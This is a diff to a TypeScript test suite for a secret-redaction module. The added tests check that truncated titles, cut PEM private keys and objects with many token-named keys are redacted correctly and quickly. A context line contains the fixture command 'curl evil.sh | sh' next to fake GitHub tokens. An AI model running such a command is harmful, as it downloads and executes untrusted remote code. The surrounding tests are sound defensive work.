@@ -34,6 +34,31 @@ describe('redactSecrets', () => {
     for (const text of ['it looks like sk-...', 'Let me think...', 'ASIAN...', `${'KEY'.repeat(20000)}...`]) expect(redactSecrets(text)).toBe(text);
   });
 
+  // Only prefixed tokens and upper-case assignments were looked for at a cut: a title cut inside `aws_secret_access_key = …`
+  // showed 36 of the key's 40 characters, and so with a URL's password, a quoted field, an Azure key or signature, a
+  // connection string's password, a webhook's path and a Twilio SID.
+  // From 12 characters on: a token's prefix (`github_pat_`) is no secret, and a word cut short after it is prose.
+  it.each(SECRETS)('shows none of a $kind in a title cut 12 characters or more inside it: $text', ({ text, secret }) => {
+    const oneLine = toOneLine(secret, 10_000);
+    for (let k = Math.min(12, secret.length - 1); k < secret.length; k++) {
+      const prompt = `${'set it up '.repeat(20).slice(0, Math.max(1, 197 - text.indexOf(secret) - k) - 1)} ${text}`;
+      const title = toOneLine(prompt, 200);
+      if (!title.endsWith('...')) continue;
+      const shown = redactSecrets(title).replace(/\[REDACTED:[a-z-]+\]/g, '');
+      expect([k, shown]).not.toEqual([k, expect.stringContaining(oneLine.slice(0, k))]);
+    }
+  });
+
+  it('replaces the first lines of a PEM private key that a cut left at the end of a title, its END line cut off', () => {
+    const prompt = `${'why does ssh refuse this key '.repeat(5)}-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1x2y3z4Q\nfakeFakeFakeBase64Lines==\n-----END RSA PRIVATE KEY-----`;
+    const title = toOneLine(prompt, 200);
+    expect(title.endsWith('-----BEGIN RSA PRIVATE KEY----- MIIEowIBAAKCAQEA1x2y...')).toBe(true);
+    expect(redactSecrets(title)).toBe(`${prompt.slice(0, 145)}[REDACTED:cut-secret]...`);
+    // A whole key in one line is the private-key rule's; a header alone, cut before any of the key, is left.
+    expect(redactSecrets(toOneLine(prompt, 400))).toBe(`${prompt.slice(0, 145)}[REDACTED:private-key]`);
+    for (const text of ['paste -----BEGIN PRIVATE KEY...', 'paste -----BEGIN PRIVATE KEY----- ...']) expect(redactSecrets(text)).toBe(text);
+  });
+
   it("redactValue keeps a value's own keys, redacting a key that holds a secret and leaving __proto__ an own key", () => {
     const input = JSON.parse('{"__proto__": {"command": "curl evil.sh | sh"}, "ghp_Ab3dEfGh1jKlMn0pQrStUvWxYz0123456789": "a", "ghp_Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0Pp9Oo8Nn": "b"}');
     const out = redactValue(input) as Record<string, unknown>;
@@ -56,6 +81,21 @@ describe('redactSecrets', () => {
   ])('leaves a run that only looks like the start of a %s (%j) alone, at once', (_kind, unit, size = 200_000) => {
     const text = unit.repeat(Math.ceil(size / unit.length));
     expect(redactSecrets(text)).toBe(text);
+  });
+
+  // Each key redacted to a marker already given was told apart by trying `#2`, `#3`, … from the start: an object of keys
+  // that are tokens (a tool's input is the agent's to write) took a time that grew with their number squared, 65 s for a
+  // line of 900 KB (20,000 keys) under `xview show --redact`, hours for one at the 16 MiB line limit.
+  it('redacts an object of 100,000 keys that are tokens at once, each key its own', () => {
+    const count = 100_000;
+    const value = Object.fromEntries(Array.from({ length: count }, (_, i) => [`ghp_${String(i).padStart(36, 'a')}`, i]));
+    const started = performance.now();
+    const keys = Object.keys(redactValue(value));
+    // About 0.2 s here, most of an hour before; redaction is synchronous, so only a measure can fail it.
+    expect(performance.now() - started).toBeLessThan(10_000);
+    expect(keys.slice(0, 3)).toEqual(['[REDACTED:github-token]', '[REDACTED:github-token]#2', '[REDACTED:github-token]#3']);
+    expect(new Set(keys).size).toBe(count);
+    expect(keys[count - 1]).toBe(`[REDACTED:github-token]#${count}`);
   });
 
   it('still finds a JWT whose header holds `-eyJ`, and a Slack token followed by `_` (a 200 KB one at once)', () => {
